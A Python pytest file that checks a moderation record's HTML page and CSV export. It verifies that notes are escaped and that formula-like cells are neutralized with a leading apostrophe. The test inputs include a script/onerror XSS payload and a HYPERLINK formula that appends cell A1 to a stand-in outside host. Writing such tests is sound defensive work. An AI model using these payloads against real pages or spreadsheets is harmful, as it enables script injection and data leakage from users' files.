"""The public record as a file for spreadsheets: all that the record says, and nothing that would be run."""

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest

from moderation import record
from moderation.record import Recorded
from rooms.store import Store
from tests import decided
from tests.debate import Debate
from tests.web.reading import read, running
from tests.web.recorded import FILE, HOUR, NOW, PAGE, history
from tests.world import World


async def test_notes_are_text_and_formulas_stay_asleep(world: World, public: Debate) -> None:
    payload = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    formula = '=HYPERLINK("https://vidu.invalid/?"&A1;"Bấm vào đây")'
    async with world.sql() as conn:
        case_id = await decided.case(conn, public.post_id, opened_at=NOW)
        act_id = await decided.act(
            conn, case_id, public.observer.id, "hide", at=NOW, reason="spam", public=payload
        )
        await decided.ask(conn, act_id, at=NOW)
        await decided.rule(
            conn, act_id, public.owner.id, upheld=True, at=NOW, note=f"{formula}\n@dòng hai"
        )
    page = (await read(world, PAGE)).text
    assert running(page) == []
    assert "&lt;script&gt;alert(1)" in page
    lines = list(csv.DictReader(io.StringIO((await read(world, FILE)).text.removeprefix("\ufeff"))))
    (line,) = [line for line in lines if line["id"] == str(act_id)]
    assert line["public_note"] == payload
    assert line["review_note"] == f"'{formula}\n@dòng hai"


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r"])
async def test_a_cell_that_begins_like_a_formula_is_text(
    world: World, public: Debate, begins: str
) -> None:
    async with world.sql() as conn:
        case_id = await decided.case(conn, public.post_id, opened_at=NOW)
        act_id = await decided.act(
            conn, case_id, public.observer.id, "approve", at=NOW, public=f"{begins}1+1, “năm”"
        )
    told = (await read(world, FILE)).text
    (line,) = [
        line
        for line in csv.DictReader(io.StringIO(told.removeprefix("\ufeff"), newline=""))
        if line["id"] == str(act_id)
    ]
    assert line["public_note"] == f"'{begins}1+1, “năm”"


async def test_the_file_says_what_the_struct_says(world: World, public: Debate) -> None:
    await history(
        world, public, [public.owner, public.observer, public.outsider], "Đủ dấu tiếng Việt"
    )
    answer = await read(world, FILE)
    year = (NOW + 7 * HOUR).year
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert (
        answer.headers["content-disposition"]
        == f'attachment; filename="moderation-record-{year}.csv"'
    )
    assert answer.content.startswith(b"\xef\xbb\xbf"), "spreadsheets know it for UTF-8"
    store: Store = world.app.state.store
    async with store.reading() as tx:
        told = await record.year(tx, year, None, by_name=False)
    text = answer.text.removeprefix("\ufeff")
    lines = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(lines) == len(told.acts) > 0
    for line, act in zip(lines, told.acts, strict=True):
        for name in Recorded.__struct_fields__:
            assert line[name].removeprefix("'") == written(getattr(act, name)), name
        assert line["rule"] == ("4" if act.reason == "insult" else line["rule"])


def written(value: Any) -> str:
    """A value as the file has it."""
    if isinstance(value, datetime):
        return (value.astimezone(UTC) + 7 * HOUR).strftime("%Y-%m-%dT%H:%M:%S+07:00")
    if isinstance(value, float):
        return f"{value:.2f}"
    return "" if value is None else str(value)
